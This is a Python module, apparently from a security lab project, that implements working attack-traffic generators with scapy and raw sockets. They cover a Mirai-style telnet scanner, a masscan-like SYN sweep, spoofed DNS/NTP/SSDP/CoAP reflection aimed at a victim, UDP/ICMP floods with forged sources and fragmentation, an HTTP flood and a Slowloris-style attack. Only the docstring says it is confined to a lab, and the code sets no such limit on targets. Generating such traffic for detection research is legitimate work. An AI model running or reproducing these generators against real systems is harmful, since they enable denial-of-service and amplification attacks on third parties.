"""Attack generators that nmap and hping3 do not provide, run inside a lab namespace.

``python -m twinai.lab.generators KIND ...`` with KIND one of:

* ``mirai``        telnet SYN sweep over a subnet in random order, 23 and 2323,
                   with Mirai's fingerprint: TCP sequence number == target IPv4.
* ``fastsweep``    masscan-like stateless SYN sweep over addresses x ports, the
                   IP id derived from target and sequence as masscan does.
* ``reflect``      spoofed requests to a DNS/NTP/SSDP/CoAP reflector whose
                   source is the victim, so that the answers hit the victim.
* ``flood``        UDP or ICMP flood with random destination ports, forged random
                   sources and/or IP fragmentation (what hping3 cannot vary).
* ``http``         HTTP GET or POST flood over many short connections.
* ``slowheaders``  Slowloris-like: many connections sending header lines slowly.

Every generator stops at ``--count`` packets/requests or ``--seconds``,
whichever comes first. Packets are built with scapy and sent on a raw socket.
"""

from __future__ import annotations

import argparse
import ipaddress
import logging
import random
import socket
import threading
import time

from twinai.lab import protocols as p
from twinai.lab.protocols import REFLECTOR_PORTS, SPOOF_PORT_RANGE

__all__ = ["main"]

log = logging.getLogger(__name__)


class _Pacer:
    """Sleep so that sending stays near ``rate`` per second until a deadline."""

    def __init__(self, rate: float, seconds: float) -> None:
        self.interval = 1.0 / rate
        self.start = time.monotonic()
        self.deadline = self.start + seconds
        self.sent = 0

    def next(self) -> bool:
        """Wait for the next slot; False once the deadline has passed."""
        self.sent += 1
        due = self.start + self.sent * self.interval
        now = time.monotonic()
        if now >= self.deadline:
            return False
        if due > now:
            time.sleep(due - now)
        return True


def _raw_socket() -> socket.socket:
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def _targets(cidr: str) -> list[str]:
    return [str(ip) for ip in ipaddress.ip_network(cidr, strict=False).hosts()]


def mirai(args: argparse.Namespace) -> int:
    """Mirai's scanner: random targets, 23 nine times in ten else 2323, seq = target."""
    from scapy.layers.inet import IP, TCP

    targets = _targets(args.targets)
    pacer, sent = _Pacer(args.rate, args.seconds), 0
    with _raw_socket() as sock:
        while sent < args.count and pacer.next():
            dst = random.choice(targets)
            dport = 2323 if random.random() < 0.1 else 23
            seq = int(ipaddress.IPv4Address(dst))
            packet = IP(dst=dst, id=random.getrandbits(16), ttl=64) / TCP(
                sport=random.randint(1024, 65535),
                dport=dport,
                flags="S",
                seq=seq,
                window=random.getrandbits(16) or 1,
            )
            sock.sendto(bytes(packet), (dst, 0))
            sent += 1
    return sent


def fastsweep(args: argparse.Namespace) -> int:
    """Stateless SYNs over targets x ports in a shuffled order, one source port."""
    from scapy.layers.inet import IP, TCP

    ports = [int(x) for x in args.ports.split(",")]
    probes = [(t, port) for t in _targets(args.targets) for port in ports]
    random.shuffle(probes)
    sport, secret = random.randint(40000, 60000), random.getrandbits(32)
    pacer, sent = _Pacer(args.rate, args.seconds), 0
    with _raw_socket() as sock:
        for dst, dport in probes[: args.count]:
            if not pacer.next():
                break
            ip_int = int(ipaddress.IPv4Address(dst))
            seq = (ip_int ^ (dport << 16) ^ secret) & 0xFFFFFFFF
            packet = IP(dst=dst, id=(ip_int ^ dport ^ seq) & 0xFFFF, ttl=255) / TCP(
                sport=sport, dport=dport, flags="S", seq=seq, window=1024
            )
            sock.sendto(bytes(packet), (dst, 0))
            sent += 1
    return sent


def _random_source() -> str:
    """A forged source outside the lab's 10.77.0.0/16, as spoofing botnets use."""
    while True:
        address = ipaddress.IPv4Address(random.randint(0x01000000, 0xDFFFFFFF))
        if address.is_global:
            return str(address)


def flood(args: argparse.Namespace) -> int:
    """UDP/ICMP flood; ``--port 0`` draws a random port per packet."""
    from scapy.layers.inet import ICMP, IP, UDP, fragment

    payload = bytes(random.getrandbits(8) for _ in range(args.size))
    pacer, sent = _Pacer(args.rate, args.seconds), 0
    with _raw_socket() as sock:
        while sent < args.count and pacer.next():
            src = _random_source() if args.spoof else None
            ip = IP(dst=args.target, id=random.getrandbits(16))
            if src:
                ip.src = src
            if args.proto == "udp":
                dport = args.port or random.randint(1, 65535)
                packet = (
                    ip / UDP(sport=random.randint(1024, 65535), dport=dport) / payload
                )
            else:
                packet = ip / ICMP(id=random.getrandbits(16), seq=sent) / payload
            pieces = (
                fragment(packet, fragsize=args.fragment) if args.fragment else [packet]
            )
            for piece in pieces:
                sock.sendto(bytes(piece), (args.target, 0))
            sent += 1
    return sent


def _reflect_request(service: str) -> bytes:
    if service == "dns":
        return p.dns_query(random.getrandbits(16), "lab.example", p.DNS_ANY)
    if service == "ntp":
        return p.ntp_monlist_request()
    if service == "ssdp":
        return p.ssdp_search("ssdp:all")
    return p.coap_get(random.getrandbits(16), ".well-known/core")


def reflect(args: argparse.Namespace) -> int:
    """Spoofed requests (source = victim) to a reflector's service port."""
    from scapy.layers.inet import IP, UDP

    dport = REFLECTOR_PORTS[args.service]
    pacer, sent = _Pacer(args.rate, args.seconds), 0
    with _raw_socket() as sock:
        while sent < args.count and pacer.next():
            sport = random.randint(*SPOOF_PORT_RANGE)
            packet = (
                IP(src=args.victim, dst=args.reflector, id=random.getrandbits(16))
                / UDP(sport=sport, dport=dport)
                / _reflect_request(args.service)
            )
            sock.sendto(bytes(packet), (args.reflector, 0))
            sent += 1
    return sent


def _http_worker(
    args: argparse.Namespace, deadline: float, budget: list[int], lock: threading.Lock
) -> None:
    body = b"user=admin&pass=" + b"x" * 200 if args.method == "POST" else b""
    while time.monotonic() < deadline:
        with lock:
            if budget[0] <= 0:
                return
            budget[0] -= 1
        request = (
            f"{args.method} /?q={random.getrandbits(24)} HTTP/1.1\r\nHost: "
            f"{args.target}\r\nUser-Agent: Mozilla/5.0\r\nContent-Length: "
            f"{len(body)}\r\n\r\n"
        ).encode() + body
        try:
            with socket.create_connection((args.target, args.port), timeout=2) as sock:
                sock.sendall(request)
                sock.recv(1024)
        except OSError:
            continue


def http(args: argparse.Namespace) -> int:
    """HTTP GET/POST flood: ``--count`` requests over ``--workers`` threads."""
    deadline, budget, lock = (
        time.monotonic() + args.seconds,
        [args.count],
        threading.Lock(),
    )
    workers = [
        threading.Thread(target=_http_worker, args=(args, deadline, budget, lock))
        for _ in range(args.workers)
    ]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    return args.count - max(budget[0], 0)


def slowheaders(args: argparse.Namespace) -> int:
    """Open ``--count`` connections and feed each one header line per interval."""
    deadline, sockets = time.monotonic() + args.seconds, []
    for _ in range(args.count):
        try:
            sock = socket.create_connection((args.target, args.port), timeout=2)
            sock.sendall(
                f"GET /?{random.getrandbits(16)} HTTP/1.1\r\nHost: "
                f"{args.target}\r\n".encode()
            )
            sockets.append(sock)
        except OSError:
            continue
    while time.monotonic() < deadline and sockets:
        time.sleep(min(args.interval, max(0.0, deadline - time.monotonic())))
        for sock in list(sockets):
            try:
                sock.sendall(
                    f"X-a{random.getrandbits(12)}: {random.getrandbits(16)}\r\n".encode()
                )
            except OSError:
                sockets.remove(sock)
    for sock in sockets:
        sock.close()
    return len(sockets)


GENERATORS = {
    "mirai": mirai,
    "flood": flood,
    "fastsweep": fastsweep,
    "reflect": reflect,
    "http": http,
    "slowheaders": slowheaders,
}


def _parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(prog="twinai.lab.generators")
    parser.add_argument("kind", choices=sorted(GENERATORS))
    parser.add_argument("--targets", help="CIDR to sweep (mirai, fastsweep)")
    parser.add_argument("--ports", default="22,23,80,443,554,1883,2323,8080")
    parser.add_argument("--target", help="address to flood (http, slowheaders)")
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--method", choices=("GET", "POST"), default="GET")
    parser.add_argument("--workers", type=int, default=8)
    parser.add_argument("--interval", type=float, default=1.0)
    parser.add_argument("--proto", choices=("udp", "icmp"), default="udp")
    parser.add_argument("--size", type=int, default=32, help="payload bytes")
    parser.add_argument(
        "--fragment", type=int, default=0, help="fragment size, 0 = none"
    )
    parser.add_argument("--spoof", action="store_true", help="random forged sources")
    parser.add_argument("--service", choices=sorted(REFLECTOR_PORTS))
    parser.add_argument("--reflector")
    parser.add_argument("--victim")
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--rate", type=float, default=500.0, help="packets per second")
    parser.add_argument("--seconds", type=float, required=True)
    return parser


def main(argv: list[str] | None = None) -> None:
    args = _parser().parse_args(argv)
    sent = GENERATORS[args.kind](args)
    log.info("%s sent %d", args.kind, sent)


if __name__ == "__main__":
    main()
